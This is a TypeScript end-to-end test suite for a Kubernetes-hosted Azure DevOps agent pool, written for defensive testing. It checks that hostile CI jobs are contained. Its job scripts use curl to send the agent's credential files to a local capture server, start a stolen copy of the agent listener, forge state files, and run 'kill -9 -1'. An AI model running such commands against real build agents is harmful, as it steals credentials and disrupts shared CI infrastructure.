import { createPrivateKey } from "node:crypto";
import { writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { imageContract } from "../../generator/contract/image.ts";
import type { JobView } from "../fake-ado/control.ts";
import { clientAssertion, jobFinished } from "../fake-ado/test-client.ts";
import { agentEnv, extractPackage, makeTempDir, startAgentScript } from "../fake-agent/harness.ts";
import { start, type RunningProcess } from "../support/process.ts";
import { agentPackage } from "../image/support/environment.ts";
import { useStackCleanup } from "./support/hooks.ts";
import { waitFor } from "./support/kube.ts";
import { agentSelector, agentsOf, cleanupNamespace, E2E_PAT, install, poolIdOf, startStack, teamValues, waitForSteadyPool, type Release, type Stack } from "./support/stack.ts";

/**
 * Hostile jobs on the real cluster (issue #7): a job that rewrites the state volume, leaves
 * processes behind, exfiltrates the agent's credential files and runs listeners with them, kills
 * everything it sees, or outlives the pod's grace period. Asserted on Kubernetes and on the fake
 * Azure DevOps: the PAT in no container log and in no request a job made; the agent removed once
 * its job is over; no second job to it; the stolen credential dead; the pod replaced; the pool
 * back to N online agents with none stale. Job finished → agent removed is written to
 * .cache/e2e/hostile-removal.json (measured, not asserted).
 */

const NS = "e2e-hostile";
const REPLICAS = 2;
const GRACE_SECONDS = 40;
/** Short job locks: a job whose listener was killed is abandoned within the test. */
const JOB_LOCK_MS = 20_000;
const STATUS_CHECK_SECONDS = 5;
const { paths, stateFiles } = imageContract;

let stack: Stack;
let rel: Release;
let poolId: number;
let exfil: { server: Server; port: number; received: Map<string, Buffer> };
const samples: { case: string; removedAfterMs: number }[] = [];

beforeAll(async () => {
  stack = await startStack([], { jobLockMs: JOB_LOCK_MS });
  await cleanupNamespace(stack, NS);
  rel = await install(
    stack,
    "hostile",
    NS,
    teamValues(stack, { replicaCount: REPLICAS, terminationGracePeriodSeconds: GRACE_SECONDS, agent: { statusCheckSeconds: STATUS_CHECK_SECONDS }, refresh: { enabled: false } }),
  );
  poolId = poolIdOf(stack);
  // Where a job sends what it steals: a server on this host, reached like the fake.
  const received = new Map<string, Buffer>();
  const server = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on("data", (c: Buffer) => chunks.push(c));
    req.on("end", () => {
      received.set(req.url ?? "", Buffer.concat(chunks));
      res.end("thanks");
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "0.0.0.0", resolve));
  exfil = { server, port: (server.address() as AddressInfo).port, received };
});

useStackCleanup(() => stack, [NS]);

afterAll(async () => {
  writeFileSync(join(stack.workDir, "hostile-removal.json"), `${JSON.stringify(samples, null, 2)}\n`);
  if (samples.length > 0) console.log(samples.map((s) => `e2e ${s.case}: agent removed ${s.removedAfterMs} ms after the job finished`).join("\n"));
  exfil?.server.close();
});

/** Every log line of a pod's containers from now until stop() (kubectl logs -f). */
function followLogs(pod: string): { stop: () => Promise<string> } {
  const follower = start(stack.env.kubectl, ["-n", NS, "logs", "-f", pod, "--all-containers", "--prefix", "--max-log-requests", "10"], {
    env: { ...process.env, KUBECONFIG: stack.env.kubeconfig },
  });
  // Safe to call more than once (the test and its `finally` both do).
  return { stop: async () => (await follower.stop()).output };
}

const finished = (id: number, timeoutMs = 240_000): Promise<JobView> => jobFinished(stack.fake, id, timeoutMs);

/** The agent of `pod` left the pool (exactly one successful DELETE), after its job finished. */
async function removedAfter(pod: string, job: JobView, label: string): Promise<void> {
  const agentId = job.agentId;
  await waitFor(`agent ${pod} to leave the pool`, async () => (agentsOf(stack, rel).some((a) => a.name === pod) ? undefined : true));
  const deletes = stack.fake.requests().filter((r) => r.method === "DELETE" && r.path.includes(`/agents/${String(agentId)}?`) && r.status < 300);
  expect(deletes).toHaveLength(1);
  const removedAt = Date.parse(deletes[0]?.time ?? "");
  const finishedAt = Date.parse(job.finishTime ?? "");
  expect(removedAt).toBeGreaterThanOrEqual(finishedAt);
  samples.push({ case: label, removedAfterMs: removedAt - finishedAt });
}

/** No request authenticated with the PAT came from anything but the image or the agent's configuration. */
function expectNoPatRequestFromJobs(): void {
  const callers = new Set(stack.fake.requests().filter((r) => r.principal === "pat").map((r) => (r.userAgent ?? "").split("/")[0]));
  expect([...callers].every((ua) => ua === "azp-agent-image" || ua === "VSServices")).toBe(true);
}

async function podGone(pod: string): Promise<void> {
  await waitFor(`pod ${pod} to be gone`, async () => ((await stack.kube.pods(NS, agentSelector(rel))).some((p) => p.name === pod) ? undefined : true), 240_000);
}

describe("a job that rewrites the hints, leaves processes behind and steals the agent's credential", () => {
  it("should get no second job to that agent, anywhere, and the stolen credential should die with the pod's agent", async () => {
    const [target] = await waitForSteadyPool(stack, rel, REPLICAS);
    const pod = target!.name;
    const logs = followLogs(pod);
    const host = `http://${stack.env.hostForPods}:${exfil.port}`;
    const script = [
      "set +e",
      `cd ${paths.state}`,
      `rm -f ${stateFiles.started} ${stateFiles.exited} ${stateFiles.busy} ${stateFiles.removed}`,
      `ln -s ${paths.secrets}/token ${stateFiles.exited}`,
      `mkfifo ${stateFiles.busy} ${stateFiles.removed}`,
      `for f in .agent .credentials .credentials_rsaparams; do curl -s -o /dev/null --data-binary @${paths.agentHome}/$f ${host}/$f; done`,
      "echo exfiltrated",
      // A listener of its own, started from a copy of the agent while the job runs.
      "cp -r /azp/agent /tmp/stolen",
      "setsid env FAKE_AGENT_SESSION_CONFLICT_TIMEOUT_SECONDS=600 FAKE_AGENT_RETRY_SECONDS=1 /tmp/stolen/bin/Agent.Listener run --once </dev/null >/tmp/stolen.log 2>&1 &",
      // And a process that keeps forging the job-running hint.
      `setsid bash -c 'while true; do touch ${paths.state}/${stateFiles.busy}; sleep 0.5; done' </dev/null >/dev/null 2>&1 &`,
      "sleep 10",
      "echo done",
    ].join("\n");
    const [hostile] = stack.fake.enqueueJobs(poolId, { script, displayName: "Hostile", demands: [`Agent.Name -equals ${pod}`], variables: { "process.clean": "false" } });
    await waitFor("the stolen files", async () => (exfil.received.has("/.credentials_rsaparams") ? true : undefined), 120_000);

    // The thief's own listener, outside the cluster, from the exfiltrated files.
    const thief = await makeTempDir("azp-e2e-thief-");
    let listener: RunningProcess | undefined;
    try {
      await extractPackage((await agentPackage()).file, thief.path);
      for (const [name, bytes] of exfil.received) writeFileSync(join(thief.path, name.slice(1)), bytes);
      listener = startAgentScript(thief.path, "bin/Agent.Listener", ["run", "--once"], agentEnv({ FAKE_AGENT_SESSION_CONFLICT_TIMEOUT_SECONDS: "600" }));
      // A job only this agent could run (it demands its name): whoever takes it gets its secrets.
      const [victim] = stack.fake.enqueueJobs(poolId, { script: "echo secrets of another pipeline", displayName: "Victim", demands: [`Agent.Name -equals ${pod}`] });

      const first = await finished(hostile!);
      expect(first).toMatchObject({ result: "succeeded", agentName: pod });
      await removedAfter(pod, first, "hostile job (hints, leftovers, stolen credential)");
      await podGone(pod);
      await waitForSteadyPool(stack, rel, REPLICAS);

      // THEN: the victim job never reached the agent (nobody else may take it: it stays queued)
      expect(stack.fake.job(victim!)).toMatchObject({ state: "queued", agentName: null });
      stack.fake.cancelJob(victim!);
      // The stolen credential is dead: no token, and the thief's listener gave up.
      const credentials = JSON.parse(exfil.received.get("/.credentials")?.toString("utf8") ?? "{}") as { data: { clientId: string; authorizationUrl: string } };
      const key = { privateKey: createPrivateKey(exfil.received.get("/.credentials_rsaparams") ?? ""), publicKey: { exponent: "", modulus: "" } };
      const token = await fetch(credentials.data.authorizationUrl, {
        method: "POST",
        body: new URLSearchParams({
          grant_type: "client_credentials",
          client_assertion_type: "urn:ietf:params:oauth:client-assertion-type:jwt-bearer",
          client_assertion: clientAssertion(key, credentials.data.clientId, credentials.data.authorizationUrl),
        }),
      });
      expect(token.status).toBe(401);
      const thiefResult = await listener.exited;
      expect(thiefResult.code).not.toBe(0);
      expect(thiefResult.stdout).not.toContain("Running job: Victim");
      // No secret in any log of the pod, and no PAT call from a job.
      const text = await logs.stop();
      expect(text).toContain("disabled agent");
      expect(text).not.toContain(E2E_PAT);
      for (const bytes of exfil.received.values()) expect(bytes.toString("utf8")).not.toContain(E2E_PAT);
      expectNoPatRequestFromJobs();
    } finally {
      listener?.signal("SIGKILL");
      await thief.remove();
      await logs.stop();
    }
  });
});

describe("a job that kills every process it can see", () => {
  it("should have its agent removed once Azure DevOps abandons the job, and its pod replaced", async () => {
    const [target] = await waitForSteadyPool(stack, rel, REPLICAS);
    const pod = target!.name;
    const [id] = stack.fake.enqueueJobs(poolId, { script: "echo bye; sleep 1; kill -9 -1", displayName: "Killer", demands: [`Agent.Name -equals ${pod}`] });
    const [victim] = stack.fake.enqueueJobs(poolId, { script: "echo only here", displayName: "Victim", demands: [`Agent.Name -equals ${pod}`] });
    const job = await finished(id!, JOB_LOCK_MS + 120_000);
    expect(job.result).toBe("abandoned");
    await removedAfter(pod, job, "kill -9 -1 (abandoned at lock expiry)");
    await podGone(pod);
    await waitForSteadyPool(stack, rel, REPLICAS);
    expect(stack.fake.job(victim!).state).toBe("queued");
    stack.fake.cancelJob(victim!);
    expectNoPatRequestFromJobs();
  });
});

describe("a job that would outlive its pod's grace period", () => {
  it("should be cancelled before the kubelet kills the pod, so that its agent is still removed", async () => {
    const [target] = await waitForSteadyPool(stack, rel, REPLICAS);
    const pod = target!.name;
    const [id] = stack.fake.enqueueJobs(poolId, { script: "trap '' TERM INT; echo stubborn; sleep 600", displayName: "Stubborn", demands: [`Agent.Name -equals ${pod}`] });
    await stack.fake.waitFor(() => (stack.fake.job(id!).state === "received" ? true : undefined), { timeoutMs: 120_000, what: "the job to start" });
    // WHEN the pod is deleted (a refresh, a drain, a scale-in)
    const deletedAt = Date.now();
    await stack.kube.ok(["-n", NS, "delete", "pod", pod, "--wait=false"]);
    const job = await finished(id!, GRACE_SECONDS * 1000 + 30_000);
    // THEN the job was cancelled, and the agent removed, within the grace period
    expect(job.result).toBe("canceled");
    await removedAfter(pod, job, "past the grace period (cancelled)");
    const removal = stack.fake.requests().find((r) => r.method === "DELETE" && r.path.includes(`/agents/${String(job.agentId)}?`) && r.status < 300);
    expect(Date.parse(removal?.time ?? "")).toBeLessThan(deletedAt + GRACE_SECONDS * 1000);
    await podGone(pod);
    await waitForSteadyPool(stack, rel, REPLICAS);
  });
});
